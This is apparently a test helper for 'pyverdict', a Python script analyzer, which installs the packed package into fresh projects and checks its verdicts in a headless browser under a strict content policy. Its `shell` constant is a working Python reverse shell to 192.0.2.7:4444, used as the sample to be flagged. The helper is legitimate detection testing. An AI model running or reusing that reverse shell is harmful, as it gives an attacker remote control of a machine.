// The package as others get it, installed into a project of each kind, built there without any configuration of ours,
// and run in a real browser under a strict policy.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';
import { capture } from '../../scripts/lib/run.mjs';
import { host } from '../browser/hosts.mjs';

export const root = fileURLToPath(new URL('../..', import.meta.url));

/** Nothing inline, nothing evaluated, nothing from elsewhere. */
export const strictPolicy =
  "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'; connect-src 'self'; style-src 'self'; base-uri 'none'; form-action 'none'; object-src 'none'; frame-ancestors 'none'";

export const shell = `import socket, os, pty
s = socket.socket()
s.connect(("192.0.2.7", 4444))
os.dup2(s.fileno(), 0)
pty.spawn("/bin/sh")
`;

/**
 * The examples of a guide in one language.
 * @param {string} guide
 * @param {string} language
 */
export const examples = (guide, language) =>
  [...readFileSync(join(root, 'docs', guide), 'utf8').matchAll(/^```(\w+)\n([^]*?)^```$/gm)]
    .filter(([, its]) => its === language)
    .map(([, , text]) => text);

/** Packs the package once, and makes projects that have it. */
export async function packed() {
  const folder = mkdtempSync(join(tmpdir(), 'pyverdict-packed-'));
  const { status, all } = await capture('npm', ['pack', '--ignore-scripts', '--pack-destination', folder]);
  assert.equal(status, 0, all);
  const archive = join(folder, readdirSync(folder).find((name) => name.endsWith('.tgz')) ?? '');

  return {
    /**
     * A fresh project with these files, and the package installed.
     * @param {string} name
     * @param {Record<string, string>} files
     */
    async project(name, files) {
      const where = join(folder, name);
      for (const [path, text] of Object.entries({
        'package.json': JSON.stringify({ name, private: true, type: 'module' }),
        ...files,
      })) {
        mkdirSync(dirname(join(where, path)), { recursive: true });
        writeFileSync(join(where, path), text);
      }
      const installed = await capture('npm', ['install', '--no-audit', '--no-fund', '--offline', archive], {
        cwd: where,
      });
      assert.equal(installed.status, 0, installed.all);
      return where;
    },
    remove: () => rmSync(folder, { recursive: true, force: true }),
  };
}

/**
 * The same in every project: all entries are used as they come, and what came of them is put where the test finds it.
 * @param {{assetBase?: string, basis?: 'model' | 'evidence'}} [options] `basis` of the verdict that the element waits for
 */
export const program = ({ assetBase, basis = 'model' } = {}) => `
import { createAnalyzer } from 'pyverdict';
import { createWorkerAnalyzer } from 'pyverdict/worker';
import 'pyverdict/element';
const script = ${JSON.stringify(shell)};
async function main() {
const options = ${JSON.stringify({ assetBase })};
const direct = await createAnalyzer(options);
const threaded = await createWorkerAnalyzer(options);
const element = Object.assign(document.createElement('pyverdict-analyzer'), options);
document.body.append(element);
const shown = new Promise((resolve, reject) => {
  element.addEventListener('pyverdict-report', ({ detail }) => {
    if (detail.reports[0].verdict.basis === '${basis}') resolve(detail);
  });
  element.addEventListener('pyverdict-error', ({ detail }) => reject(new Error(detail.message)));
});
element.input = script;
const results = [await direct.analyze(script), await threaded.analyze(script), await shown];
window.labels = results.map(({ reports: [{ verdict }] }) => verdict.label + ' by ' + verdict.basis);
}
main();
`;

/** @param {string} script its address, relative to the page */
export const page = (script) =>
  `<!doctype html><html lang="en"><head><title>x</title></head><body><script type="module" src="${script}"></script></body></html>`;

/** An icon that nobody offers, and a file too large for the cache of a visit that keeps nothing: it is asked for again. */
const ofTheBrowser = /\/favicon\.ico$|ERR_CACHE_WRITE_FAILURE/;

/** The browser for the tests of one file. */
export async function browser() {
  const chrome = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'],
  });

  /**
   * Opens a page, and gives what its program found.
   * @param {string} address
   * @param {(tab: import('playwright-core').Page) => Promise<void>} [look] at the page when all is there
   */
  async function labelsAt(address, look = async () => {}) {
    const context = await chrome.newContext();
    try {
      const tab = await context.newPage();
      /** @type {string[]} */
      const problems = [];
      /** What the browser says and what the page makes good by itself: worth knowing when something does not come. @type {string[]} */
      const remarks = [];
      tab.on('console', (message) => {
        const text = `${message.text()} ${message.location().url}`;
        if (message.type() === 'error') (ofTheBrowser.test(text) ? remarks : problems).push(text);
      });
      tab.on('requestfailed', (request) => remarks.push(`${request.url()} ${request.failure()?.errorText}`));
      await tab.exposeFunction('pyverdictError', (/** @type {string} */ text) => problems.push(text));
      await tab.addInitScript(() => {
        addEventListener('pyverdict-error', (event) => {
          const { code, message } = /** @type {CustomEvent} */ (event).detail;
          /** @type {any} */ (window).pyverdictError(`${code}: ${message}`);
        });
      });
      tab.on('pageerror', (error) => problems.push(String(error)));
      await tab.goto(address);
      const there = async (/** @type {Promise<unknown>} */ waiting) => {
        await waiting.catch((error) => assert.fail([error.message, ...problems, ...remarks].join('\n')));
      };
      await there(
        tab.waitForFunction(() => /** @type {any} */ (window).labels, undefined, { timeout: 120_000 }),
      );
      await there(tab.locator('.cm-line').first().waitFor({ timeout: 120_000 }));
      await look(tab);
      assert.deepEqual(problems, []);
      return await tab.evaluate(() => /** @type {any} */ (window).labels);
    } finally {
      await context.close();
    }
  }

  return {
    chrome,
    labelsAt,
    /**
     * Opens a page of a folder that is served under a path, and gives what its program found.
     * @param {string} folder
     * @param {{path?: string, policy?: string, look?: Parameters<typeof labelsAt>[1]}} [options]
     */
    async labels(folder, { path = '/', policy = strictPolicy, look } = {}) {
      const server = await host(
        {},
        { folders: { [path]: folder }, headers: { 'Content-Security-Policy': policy } },
      );
      try {
        return await labelsAt(`${server.address}${path}index.html`, look);
      } finally {
        await server.close();
      }
    },
    close: () => chrome.close(),
  };
}
